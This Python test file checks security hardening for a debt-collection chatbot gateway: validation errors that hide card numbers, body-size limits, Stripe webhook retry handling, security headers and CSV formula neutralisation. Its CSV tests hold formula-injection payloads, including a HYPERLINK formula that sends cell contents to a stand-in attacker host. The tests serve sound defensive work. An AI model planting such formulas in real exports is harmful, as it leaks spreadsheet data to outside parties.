"""Issue 18, hardened edges: bad input gets a clear 4xx that never echoes it, exports cannot carry a spreadsheet
formula, pages carry CSP, frame-ancestors and nosniff, and a Stripe event about an object Stripe does not know is
answered once instead of retried for three days. Each test names the mutation that was tried against it."""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import re

import pytest
import stripe
from fastapi.exceptions import RequestValidationError
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from bot import audit, conversations, handoff
from bot.agents import users
from bot.config import Settings
from bot.db import session_scope
from bot.db.models import AuditEvent, Message, StripeEvent
from bot.gateway.app import create_app
from bot.gateway.console import routes as console_routes
from bot.gateway.hardening import MAX_BODY_BYTES, TEMPLATES, inline_script_hashes, validation_error
from bot.records.export import csv_cell
from stripe_standin import create_app as create_standin
from stripe_standin.testing import ServerThread
from tests.conftest import free_port
from tests.test_agents_console import PASSWORD, _login

CARD = "4242 4242 4242 4242"
SSN = "123-45-6789"
WEBHOOK_SECRET = "whsec_edges_test"

LOOPBACK = ("127.0.0.1", 50000)  # the embedded demo opens the REST channel and demo phone to loopback only


def _settings(sqlite_url: str, **extra) -> Settings:
    return Settings(database_url=sqlite_url, rasa_url=f"http://127.0.0.1:{free_port()}", widget_secret="test-secret",
                    stripe_webhook_secret=WEBHOOK_SECRET, mode="embedded", **extra)


@pytest.fixture
def client(sqlite_engine, sqlite_url):
    with TestClient(create_app(_settings(sqlite_url)), raise_server_exceptions=False, client=LOOPBACK) as test_client:
        yield test_client


@pytest.fixture
def reviewer(sqlite_engine, client):
    with session_scope(sqlite_engine) as session:
        users.create_user(session, "cat", PASSWORD, "compliance", display_name="Cat")
    _login(client, "cat")
    return client


# --- 1: validation errors never echo the input ----------------------------------------------------------------------


def test_a_lone_surrogate_beside_a_card_number_gets_a_422_that_echoes_nothing(client, sqlite_engine):
    """Mutation: hardening.install without the RequestValidationError handler (FastAPI's default) -> 500, and
    with the surrogate removed its 422 holds the whole card number."""
    raw = ('{"sender": "web-1", "message": "\\ud800 ' + CARD + " " + SSN + '"}').encode()
    response = client.post("/webhooks/rest/webhook", content=raw, headers={"content-type": "application/json"})
    assert response.status_code == 422
    assert response.json() == {"error": "invalid request",
                               "problems": [{"field": "body.message", "problem": "string_unicode"}]}
    too_long = {"sender": "web-1", "message": (CARD + " " + SSN + " ") * 300}
    response = client.post("/webhooks/rest/webhook", json=too_long)
    assert response.status_code == 422 and len(response.content) < 200
    assert "4242" not in response.text and "6789" not in response.text
    with session_scope(sqlite_engine) as session:
        assert session.scalar(select(func.count(Message.id))) == 0


def test_a_validation_error_names_no_key_the_caller_chose():
    """A dict key the caller chose can be in an error's location (no route has such a model yet; the handler must
    not wait for one). Mutation: _where returning every loc part as given -> the card digits come back."""
    exc = RequestValidationError([{"type": "int_parsing", "loc": ("body", "amounts", CARD, 0), "msg": SSN,
                                   "input": CARD}])
    response = asyncio.run(validation_error(None, exc))
    assert json.loads(response.body) == {"error": "invalid request",
                                         "problems": [{"field": "body.amounts.*.0", "problem": "int_parsing"}]}


def test_an_oversized_body_is_refused_before_it_is_read(client):
    """Mutation: EdgeMiddleware without the content-length check -> 422 with FastAPI reading the whole body."""
    response = client.post("/webhooks/rest/webhook", content=b"{" + b" " * MAX_BODY_BYTES + b"}",
                           headers={"content-type": "application/json"})
    assert response.status_code == 413 and response.json() == {"error": "request body too large"}


def test_an_unexpected_fault_gets_a_short_500(sqlite_url):
    """Mutation: no Exception handler -> Starlette's plain-text 500 (and a debug page with debug=True)."""
    app = create_app(_settings(sqlite_url))

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError(f"card {CARD}")

    with TestClient(app, raise_server_exceptions=False, client=LOOPBACK) as test_client:
        response = test_client.get("/boom")
    assert response.status_code == 500 and response.json() == {"error": "internal error"}


# --- 5: 500s on bad input ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [
    "/compliance?page=99999999999999999999",
    "/compliance?to=9999-12-31",
    "/compliance/export.csv?to=9999-12-31",
    "/compliance/export.json?from=0001-01-01&to=9999-12-31",
])
def test_out_of_range_pages_and_dates_are_not_a_500(reviewer, path):
    """Mutations: search.search without the page clamp (OverflowError: int too large for SQLite) and _day
    without OverflowError (9999-12-31 plus a day) -> 500."""
    assert reviewer.get(path).status_code == 200


@pytest.mark.parametrize("query", ["from=9999-12-31", "from=9999-12-31&to=9999-12-31", "from=0001-01-01&to=0001-01-02"])
def test_kpi_dates_out_of_range_get_a_400(reviewer, query):
    """Mutation: the FIRST_YEAR/LAST_YEAR check removed -> 500 for 9999-12-31 (the day after overflows). The KPIs
    moved to /ops/dashboard (issue 20), which reviewers still read."""
    assert reviewer.get(f"/ops/dashboard?{query}").status_code == 400


@pytest.mark.parametrize("body", [b"{", b"\xff\xfe", b'{"number": "+15555550101", "text": "\\ud800"}', b"[]"])
def test_the_demo_phone_refuses_bad_json_with_a_400(client, body):
    """Mutation: back to PhoneText.model_validate(await request.json()) -> JSONDecodeError, a 500."""
    response = client.post("/phone/api/send", content=body,
                           headers={"content-type": "application/json", "x-demo-phone": "1"})
    assert response.status_code == 400 and "error" in response.json()


# --- 5: Stripe, an event about an object Stripe does not know -------------------------------------------------------


def _signed_post(client: TestClient, event: dict) -> int:
    body = json.dumps(event)
    header = stripe.WebhookSignature.generate_signature_header(body, WEBHOOK_SECRET)
    return client.post("/webhooks/stripe", content=body,
                       headers={"content-type": "application/json", "stripe-signature": header}).status_code


def _completed(event_id: str) -> dict:
    return {"id": event_id, "object": "event", "type": "checkout.session.completed", "data": {"object": {
        "id": "cs_test_unknown", "object": "checkout.session", "mode": "payment", "payment_status": "paid",
        "payment_intent": "pi_does_not_exist"}}}


def test_an_event_naming_an_unknown_payment_intent_is_answered_once_and_not_retried(sqlite_engine, sqlite_url):
    """Mutation: webhooks.handle without the InvalidRequestError branch -> 500 on every delivery."""
    standin = ServerThread(create_standin(webhook_secret=WEBHOOK_SECRET)).start()
    try:
        with TestClient(create_app(_settings(sqlite_url, stripe_api_base=standin.url)),
                        raise_server_exceptions=False) as test_client:
            assert [_signed_post(test_client, _completed("evt_unknown_pi")) for _ in range(3)] == [200, 200, 200]
    finally:
        standin.stop()
    with session_scope(sqlite_engine) as session:
        assert session.get(StripeEvent, "evt_unknown_pi").outcome == "unknown_object"
        [row] = session.scalars(select(AuditEvent).where(AuditEvent.kind == "stripe_event_unmatched")).all()
        assert row.detail["payment_intent"] == "pi_does_not_exist"


def test_a_transient_stripe_failure_still_gets_500_so_stripe_retries(sqlite_engine, sqlite_url):
    """Mutation: catching stripe.StripeError (not only InvalidRequestError) -> 200 and the payment is lost."""
    settings = _settings(sqlite_url, stripe_api_base=f"http://127.0.0.1:{free_port()}", stripe_timeout_seconds=0.5,
                         stripe_max_network_retries=0)
    with TestClient(create_app(settings), raise_server_exceptions=False, client=LOOPBACK) as test_client:
        assert _signed_post(test_client, _completed("evt_transient")) == 500
    with session_scope(sqlite_engine) as session:
        assert session.get(StripeEvent, "evt_transient") is None  # not recorded: the retry will process it


@pytest.mark.parametrize("event", [{"type": "x"}, {"id": "evt_1"}, {"id": "evt_2", "type": "x", "data": [1]},
                                   {"id": "evt_3", "type": "x", "data": {"object": "text"}}, [1, 2]])
def test_a_signed_body_that_is_not_an_event_gets_400(client, event):
    """Mutation: stripe_webhook without _is_event -> KeyError/AttributeError, a 500 on every retry."""
    assert _signed_post(client, event) == 400


# --- 6: CSV formula injection ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "  =1", "\uff1d1"])
def test_a_cell_starting_with_a_formula_character_is_quoted(text):
    """Mutation: FORMULA_STARTS without "@" (or any one character) -> that case fails."""
    assert csv_cell(text) == "'" + text
    assert csv_cell("I can pay $150 - really") == "I can pay $150 - really" and csv_cell(None) is None


def test_the_csv_export_never_writes_a_formula(reviewer, sqlite_engine):
    """Mutation: as_csv writing the row as before (csv_cell not applied) -> the cell starts with "="."""
    with session_scope(sqlite_engine) as session:
        conversation = conversations.get_or_create(session, "sms", "+15555550101")
        conversations.record_message(session, conversation, direction="in", sender_role="debtor",
                                     text='=HYPERLINK("http://evil.example/?"&A1,"click")')
        audit.record(session, "dispute_recorded", rule_id="DSP-1", conversation_id=conversation.id)
        handoff.request(session, conversation.id, "request_human", rule_id="HO-1")
        conversation_id = conversation.id
    response = reviewer.get("/compliance/export.csv", params={"conversation": conversation_id})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip(" ")[:1] in ("=", "+", "-", "@")]


# --- 7: security headers --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/phone", "/pay/done", "/pay/no-such-token", "/pay/x?cancelled=1",
                                  "/widget.js", "/healthz", "/no-such-page"])
def test_every_page_has_csp_frame_ancestors_and_nosniff(client, path):
    """Mutation: EdgeMiddleware not installed (or a header left out of `extra`) -> the header is missing."""
    response = client.get(path, follow_redirects=False)
    assert response.status_code < 500
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    if path.startswith("/pay/"):
        assert "script-src" not in csp and "default-src 'none'" in csp
        assert response.headers["cache-control"] == "no-store"


def test_the_phone_page_runs_only_its_own_inline_script(client):
    """Mutation: _phone_csp without the hashes -> the page's own script is blocked (its hash is not in the CSP);
    with 'unsafe-inline' instead, the second assertion fails."""
    response = client.get("/phone")
    csp = response.headers["content-security-policy"]
    script = re.search(r"<script>(.*?)</script>", response.text, re.S).group(1)
    [expected] = inline_script_hashes(TEMPLATES / "phone.html")
    assert f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'" == expected
    assert expected in csp and "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";", 1)[0]


def test_the_consoles_keep_their_own_stricter_policy(client):
    """Mutation: EdgeMiddleware overwriting a CSP that is already set -> the console's form-action 'self' policy
    with style-src 'self' is replaced by the page default."""
    response = client.get("/agent/login")
    assert response.headers.get_list("content-security-policy") == [
        console_routes.SECURITY_HEADERS["Content-Security-Policy"]]


# --- found by tests/test_fuzz_edges.py ------------------------------------------------------------------------------


def test_a_rest_sender_id_holding_a_card_number_or_ssn_is_refused(client, sqlite_engine):
    """The sender id is stored as the conversation's external id and echoed as recipient_id. Mutation:
    RestMessage without _no_card_or_ssn -> 200, the card number in conversations.external_id and the answer."""
    for sender in (CARD, f"web {SSN}"):
        response = client.post("/webhooks/rest/webhook", json={"sender": sender, "message": "hi"})
        assert response.status_code == 422 and "4242" not in response.text and "6789" not in response.text
    with session_scope(sqlite_engine) as session:
        assert session.scalar(select(func.count(Message.id))) == 0


def test_a_refused_console_post_audits_the_route_not_the_path_sent(sqlite_engine, client):
    """Mutation: detail={"path": request.url.path, ...} as before -> the card number is in audit_events."""
    with session_scope(sqlite_engine) as session:
        users.create_user(session, "ana", PASSWORD, "agent", display_name="Ana")
    _login(client, "ana")
    response = client.post(f"/agent/h/{CARD}/claim", data={"csrf_token": "wrong"})
    assert response.status_code == 403
    with session_scope(sqlite_engine) as session:
        [row] = session.scalars(select(AuditEvent).where(AuditEvent.kind == "csrf_rejected")).all()
    assert row.detail == {"path": "/agent/h/{handoff_id}/claim", "why": "token"}
